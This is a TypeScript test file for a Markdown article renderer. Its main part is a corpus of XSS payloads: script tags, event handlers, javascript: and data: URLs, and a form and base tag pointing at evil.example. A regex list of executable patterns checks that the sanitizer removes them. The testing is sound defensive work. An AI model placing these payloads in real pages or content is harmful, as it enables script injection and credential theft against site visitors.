import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { codeFingerprint, readMinutes, renderArticle, rendererFingerprint, websiteKey } from "./markdown.server";

/** An XSS corpus as authors (or a compromised content file) might write it, in Markdown and inline HTML. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  '<img src="https://images.unsplash.com/p.jpg" onload="alert(1)">',
  "<svg><script>alert(1)</script></svg>",
  '<svg onload="alert(1)"><circle r="9"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  "[click](javascript:alert(1))",
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  "<style>body{display:none}</style>",
  '<form action="https://evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p id="main" name="x">clobber</p>',
  '<details open ontoggle="alert(1)">x</details>',
  '<a href="https://example.com" onclick="alert(1)" target="_self">x</a>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

const EXECUTABLE = [
  /<script/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /data:/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /style=/i,
  /<style/i,
  /<form/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /<template/i,
];

describe("renderArticle", () => {
  it.each(CORPUS)("leaves nothing executable of %s", (input) => {
    const { html } = renderArticle(`Intro paragraph.\n\n${input}\n\nOutro.`);
    for (const pattern of EXECUTABLE) expect(html, String(pattern)).not.toMatch(pattern);
    expect(html).not.toMatch(/id="main"/);
  });

  it("keeps images from our paths and allowed https hosts only, lazily", () => {
    const { html } = renderArticle(
      "![ours](/images/posts/a.png) ![cdn](https://images.unsplash.com/photo.jpg) ![http](http://images.unsplash.com/p.jpg) ![other](https://evil.example/p.jpg) ![lookalike](https://images.unsplash.com.evil.example/p.jpg)",
    );
    expect(html).toContain('src="/images/posts/a.png"');
    expect(html).toContain('src="https://images.unsplash.com/photo.jpg"');
    expect(html).not.toContain("http://images.unsplash.com");
    expect(html).not.toContain("evil.example");
    expect(html).toMatch(/<img src="\/images\/posts\/a.png" alt="ours" loading="lazy"/);
  });

  it("opens external links in a new tab with noopener nofollow and keeps ours in the tab", () => {
    const { html } = renderArticle("[Midjourney](https://www.midjourney.com) and [our review](/tools/midjourney).");
    expect(html).toContain('<a href="https://www.midjourney.com" rel="noopener nofollow" target="_blank">Midjourney</a>');
    expect(html).toContain('<a href="/tools/midjourney">our review</a>');
  });

  it("sends links to a catalogue tool's website through /go with sponsored, whatever the www or trailing slash", () => {
    const toolLinks = new Map([[websiteKey("https://www.midjourney.com")!, "midjourney"]]);
    const { html } = renderArticle("[Midjourney](https://midjourney.com/) and [its docs](https://docs.midjourney.com/hc) and [evil](https://midjourney.com.evil.example)", {
      toolLinks,
    });
    expect(html).toContain('<a href="/go/tool/midjourney" target="_blank" rel="sponsored nofollow noopener">Midjourney</a>');
    expect(html).toContain('<a href="https://docs.midjourney.com/hc" rel="noopener nofollow" target="_blank">its docs</a>');
    expect(html).toContain('href="https://midjourney.com.evil.example" rel="noopener nofollow"');
  });

  it("gives h2 and h3 ids and lists them as the table of contents", () => {
    const { html, toc } = renderArticle("## What it does\n\nText.\n\n### Pricing, honestly\n\nMore.\n\n## What it does\n\nAgain.");
    expect(html).toContain('<h2 id="what-it-does">What it does</h2>');
    expect(html).toContain('<h3 id="pricing-honestly">Pricing, honestly</h3>');
    expect(toc).toEqual([
      { id: "what-it-does", text: "What it does", level: 2 },
      { id: "pricing-honestly", text: "Pricing, honestly", level: 3 },
      { id: "what-it-does-1", text: "What it does", level: 2 },
    ]);
  });

  it("renders GitHub tables and counts words for the reading time", () => {
    const { html, words } = renderArticle(`| Tool | Use |\n| --- | --- |\n| Cursor | Code |\n\n${"word ".repeat(1100)}`);
    expect(html).toContain("<table>");
    expect(words).toBeGreaterThan(1100);
    expect(readMinutes(words)).toBe(5);
    expect(readMinutes(10)).toBe(1);
  });

  it("puts each table in a focusable scroll region named by its headings, numbered when two share them (decision 050)", () => {
    const table = "| Tool | Use |\n| --- | --- |\n| Cursor | Code |\n";
    const { html, text } = renderArticle(`${table}\nBetween.\n\n${table}\n| A | B | C |\n| - | - | - |\n| 1 | 2 | 3 |\n`);
    const boxes = [
      ...html.matchAll(
        /<div class="scroll-region"><div class="scroll-region-frame"><div role="region" aria-label="([^"]+)" tabindex="0" class="scroll-region-box relative"><table>/g,
      ),
    ];
    expect(boxes.map((box) => box[1])).toEqual(["Table: Tool, Use", "Table: Tool, Use (2)", "Table: A, B, C"]);
    // The hint's words are app.css's: they are not the article's.
    expect(text).toBe("Tool Use Cursor Code Between. Tool Use Cursor Code A B C 1 2 3");
  });
});

describe("the renderer's fingerprint (decision 041)", () => {
  it("changes with the renderer's source and every local module it imports, the lock file and nothing else", () => {
    const root = mkdtempSync(path.join(os.tmpdir(), "renderer-"));
    const write = (file: string, text: string) => {
      mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
      writeFileSync(path.join(root, file), text);
    };
    try {
      write(
        "app/utils/render.server.ts",
        'import { a } from "~/lib/a";\nimport {\n  b,\n} from "./b";\nimport type { T } from "~/lib/types";\nimport { visit } from "unist-util-visit";\n',
      );
      write("app/lib/a.ts", 'export { c } from "./deep/c";\nexport const a = 1;\n');
      write("app/lib/deep/c.ts", "export const c = 1;\n");
      write("app/utils/b.ts", "export const b = 1;\n");
      write("app/lib/types.ts", "export type T = 1;\n");
      write("app/lib/unrelated.ts", "export const d = 1;\n");
      write("package-lock.json", "{}");
      const options = { appDir: path.join(root, "app"), lockFile: path.join(root, "package-lock.json") };
      const fingerprint = () => codeFingerprint(path.join(root, "app/utils/render.server.ts"), options);
      const first = fingerprint();
      expect(first).toMatch(/^[0-9a-f]{16}$/);
      const seen = new Set([first]);
      for (const [file, text] of [
        ["app/utils/render.server.ts", 'import { a } from "~/lib/a";\nimport { b } from "./b";\n// changed\n'],
        ["app/utils/b.ts", "export const b = 2;\n"],
        ["app/lib/deep/c.ts", "export const c = 2;\n"],
        ["package-lock.json", '{"packages":{}}'],
      ]) {
        write(file!, text!);
        expect(seen.has(fingerprint()), file).toBe(false);
        seen.add(fingerprint());
      }
      const last = fingerprint();
      write("app/lib/unrelated.ts", "export const d = 2;\n");
      expect(fingerprint()).toBe(last);
      // A built file stands alone: it names the files it imports by their content hash.
      write("build/server/assets/chunk-abc.js", 'import { x } from "./other-def.js";\n');
      const built = codeFingerprint(path.join(root, "build/server/assets/chunk-abc.js"), options);
      write("build/server/assets/chunk-abc.js", 'import { x } from "./other-xyz.js";\n');
      expect(codeFingerprint(path.join(root, "build/server/assets/chunk-abc.js"), options)).not.toBe(built);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });

  it("is this renderer's, read once", () => {
    expect(rendererFingerprint()).toMatch(/^[0-9a-f]{16}$/);
    expect(rendererFingerprint()).toBe(rendererFingerprint());
  });
});
